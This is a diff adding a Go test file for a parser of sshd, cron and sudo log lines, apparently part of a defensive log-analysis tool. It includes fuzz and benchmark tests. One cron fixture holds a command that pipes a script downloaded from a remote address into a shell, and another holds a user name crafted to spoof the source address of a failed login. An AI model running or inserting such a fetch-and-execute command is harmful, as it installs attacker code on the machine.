@@ -1,0 +1,139 @@
+package authlog
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+
+	"demine/internal/fact"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+var cst = time.FixedZone("CST", 8*3600)
+
+func at(h, m, s int) time.Time { return time.Date(2026, 11, 22, h, m, s, 0, cst) }
+
+func TestParse(t *testing.T) {
+	const fp = "SHA256:FtsOgVm4Hc9CErPBlPOBPpZKjIvYkWkc4qYWlUZJ8bw"
+	for line, want := range map[string]fact.LogEvent{
+		"Nov 22 18:59:01 web1 sshd[4211]: Accepted publickey for root from 203.0.113.9 port 55112 ssh2: ED25519 " + fp: {
+			Kind: Accepted, Time: at(18, 59, 1), User: "root", From: "203.0.113.9", Method: "publickey", Key: fp, PID: 4211},
+		"2026-11-22T18:59:01.123456+08:00 web1 sshd-session[9]: Accepted password for bob from 2001:db8::1 port 2 ssh2": {
+			Kind: Accepted, Time: at(18, 59, 1).Add(123456 * time.Microsecond), User: "bob", From: "2001:db8::1", Method: "password", PID: 9},
+		"Nov  2 08:09:01 h sshd[1]: Failed password for invalid user admin from 198.51.100.7 port 4 ssh2": {
+			Kind: Failed, Time: time.Date(2026, 11, 2, 8, 9, 1, 0, cst), User: "admin", From: "198.51.100.7", Method: "password", PID: 1},
+		// A user name that tries to blame another address.
+		"Nov 22 18:59:01 h sshd[1]: Failed password for invalid user x from 9.9.9.9 port 1 from 198.51.100.7 port 4 ssh2": {
+			Kind: Failed, Time: at(18, 59, 1), User: "x from 9.9.9.9 port 1", From: "198.51.100.7", Method: "password", PID: 1},
+		"Nov 22 18:59:01 h sshd[1]: Invalid user  from 198.51.100.7 port 4": {
+			Kind: Failed, Time: at(18, 59, 1), From: "198.51.100.7", Method: "invalid-user", PID: 1},
+		"Nov 22 18:59:01 h sshd[1]: message repeated 5 times: [ Failed password for root from 198.51.100.7 port 4 ssh2]": {
+			Kind: Failed, Time: at(18, 59, 1), User: "root", From: "198.51.100.7", Method: "password", PID: 1, Count: 5},
+		"Nov 22 18:59:01 h sshd[1]: Accepted publickey for a from 1.2.3.4 port 5 ssh2: ED25519-CERT " + fp + " ID x from 9.9.9.9 port 1 (serial 0) CA RSA SHA256:zz": {
+			Kind: Accepted, Time: at(18, 59, 1), User: "a", From: "1.2.3.4", Method: "publickey", Key: fp, PID: 1},
+		"Nov 22 18:59:01 web1 CRON[123]: (root) CMD (curl -fsSL http://203.0.113.9/x.sh | sh)": {
+			Kind: Run, Time: at(18, 59, 1), User: "root", Text: "curl -fsSL http://203.0.113.9/x.sh | sh", PID: 123},
+		"Nov 22 18:59:01 web1 CROND[123]: (root) CMD (a (b))": {Kind: Run, Time: at(18, 59, 1), User: "root", Text: "a (b)", PID: 123},
+		"Nov 22 18:59:01 web1 cron[77]: (root) INSECURE MODE (mode 0600 expected) (crontabs/root)": {
+			Kind: Refused, Time: at(18, 59, 1), User: "root", Text: "INSECURE MODE (mode 0600 expected) (crontabs/root)", PID: 77},
+		"Nov 22 18:59:01 web1 cron[77]: (*system*) ERROR (Syntax error, this crontab file will be ignored)": {
+			Kind: Refused, Time: at(18, 59, 1), User: "*system*", Text: "ERROR (Syntax error, this crontab file will be ignored)", PID: 77},
+		"Nov 22 18:59:01 c7 crond[77]: (root) BAD FILE MODE (/etc/cron.d/x)": {
+			Kind: Refused, Time: at(18, 59, 1), User: "root", Text: "BAD FILE MODE (/etc/cron.d/x)", PID: 77},
+		"Nov 22 18:59:01 alpine cron.info crond[1]: USER root pid  12 cmd run-parts /etc/periodic/15min": {
+			Kind: Run, Time: at(18, 59, 1), User: "root", Text: "run-parts /etc/periodic/15min", PID: 12},
+		"Nov 22 18:59:01 web1 sudo:   deploy : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/systemctl restart redis": {
+			Kind: Sudo, Time: at(18, 59, 1), User: "deploy", Method: "root", Text: "/usr/bin/systemctl restart redis"},
+	} {
+		got, ok := Parse([]byte(line), 2026, cst)
+		want.Time, got.Time = want.Time.UTC(), got.Time.UTC()
+		if d := cmp.Diff(want, got); d != "" || !ok {
+			t.Errorf("%s: %v %s", line, ok, d)
+		}
+	}
+}
+
+func TestParseNothing(t *testing.T) {
+	for _, line := range []string{
+		"", "Nov", "Foo 22 18:59:01 h sshd[1]: Accepted password for a from 1.2.3.4 port 1",
+		"Nov 22 18:59:01 h sshd[1]: Server listening on 0.0.0.0 port 22.",
+		"Nov 22 18:59:01 h sshd[1]: Accepted password for a from nowhere port 1",
+		"Nov 22 18:59:01 h CRON[1]: pam_unix(cron:session): session opened for user root",
+		"Nov 22 18:59:01 h crond[1]: (root) CMDEND (x)",
+		"Nov 22 18:59:01 h app[1]: sshd[2]: Accepted password for root from 1.2.3.4 port 1 ssh2",
+		"Nov 22 25:59:01 h sshd[1]: Accepted password for a from 1.2.3.4 port 1",
+		"anFeb 2 sshd",
+	} {
+		if e, ok := Parse([]byte(line), 2026, cst); ok {
+			t.Errorf("%s: %+v", line, e)
+		}
+	}
+}
+
+func TestParseAllYears(t *testing.T) {
+	log := "Dec 31 23:59:59 h CRON[1]: (root) CMD (old)\n\nJan  1 00:00:01 h CRON[2]: (root) CMD (new)\nJan  2 09:00:00 h CRON[3]: (root) CMD (ahead)\n"
+	got := ParseAll([]byte(log), time.Date(2027, 1, 1, 10, 0, 0, 0, cst), cst, "/var/log/syslog")
+	want := []fact.LogEvent{
+		{Kind: Run, Time: time.Date(2026, 12, 31, 23, 59, 59, 0, cst), User: "root", Text: "old", PID: 1, Origin: fact.Origin{Path: "/var/log/syslog", Line: 1}},
+		{Kind: Run, Time: time.Date(2027, 1, 1, 0, 0, 1, 0, cst), User: "root", Text: "new", PID: 2, Origin: fact.Origin{Path: "/var/log/syslog", Line: 3}},
+		{Kind: Run, Time: time.Date(2027, 1, 2, 9, 0, 0, 0, cst), User: "root", Text: "ahead", PID: 3, Origin: fact.Origin{Path: "/var/log/syslog", Line: 4}},
+	}
+	if d := cmp.Diff(want, got); d != "" {
+		t.Error(d)
+	}
+}
+
+func TestParseAllFolds(t *testing.T) {
+	var b strings.Builder
+	for i := range 200 {
+		fmt.Fprintf(&b, "Nov 22 18:%02d:%02d h sshd[%d]: Failed password for u%d from 198.51.100.7 port 4 ssh2\n", i/60, i%60, i, i)
+		if i < foldAbove {
+			fmt.Fprintf(&b, "Nov 22 18:%02d:%02d h sshd[%d]: Failed password for v from 198.51.100.8 port 4 ssh2\n", i/60, i%60, i)
+		}
+	}
+	b.WriteString("Nov 22 19:00:00 h sshd[1]: Accepted password for root from 198.51.100.7 port 4 ssh2\n")
+	got := ParseAll([]byte(b.String()), at(20, 0, 0), cst, "/x")
+	if len(got) != 1+foldAbove+1 {
+		t.Fatalf("%d events", len(got))
+	}
+	f := got[0]
+	if f.Count != 200 || f.User != "" || f.Origin.Line != 1 || f.Text != "until 2026-11-22T18:03:19+08:00" {
+		t.Errorf("folded: %+v", f)
+	}
+	if got[len(got)-1].Kind != Accepted {
+		t.Errorf("last: %+v", got[len(got)-1])
+	}
+}
+
+func FuzzParseAll(f *testing.F) {
+	f.Add([]byte("Nov 22 18:59:01 h sshd[1]: Accepted publickey for root from 1.2.3.4 port 55 ssh2: ED25519 SHA256:x\n"))
+	f.Add([]byte("2026-11-22T18:59:01+08:00 h CRON[1]: (root) CMD (x)\nNov 22 18:59:01 h sudo: a : TTY=x ; USER=b ; COMMAND=c"))
+	f.Add([]byte("Nov 22 18:59:01 alpine cron.info crond[1]: USER root pid  12 cmd x"))
+	f.Add([]byte("<86>Feb 29 18:59:01 h sshd[1]: message repeated 5 times: [ Failed password for a from 1.2.3.4 port 1]"))
+	f.Fuzz(func(t *testing.T, b []byte) {
+		lines := strings.Count(string(b), "\n") + 1
+		last := 0
+		for _, e := range ParseAll(b, at(12, 0, 0), cst, "/x") {
+			if e.Origin.Line <= last || e.Origin.Line > lines {
+				t.Fatalf("line %d after %d of %d", e.Origin.Line, last, lines)
+			}
+			last = e.Origin.Line
+			if e.Kind == "" || !utf8.ValidString(e.User+e.Text+e.Key+e.Method) {
+				t.Fatalf("bad event %+v", e)
+			}
+		}
+	})
+}
+
+func BenchmarkParseAll(b *testing.B) {
+	line := "Nov 22 18:59:01 h sshd[1]: Failed password for invalid user admin from 198.51.100.7 port 4 ssh2\n"
+	log := []byte(strings.Repeat(line, 10000))
+	b.SetBytes(int64(len(log)))
+	b.ReportAllocs()
+	for b.Loop() {
+		ParseAll(log, at(20, 0, 0), cst, "/x")
+	}
+}
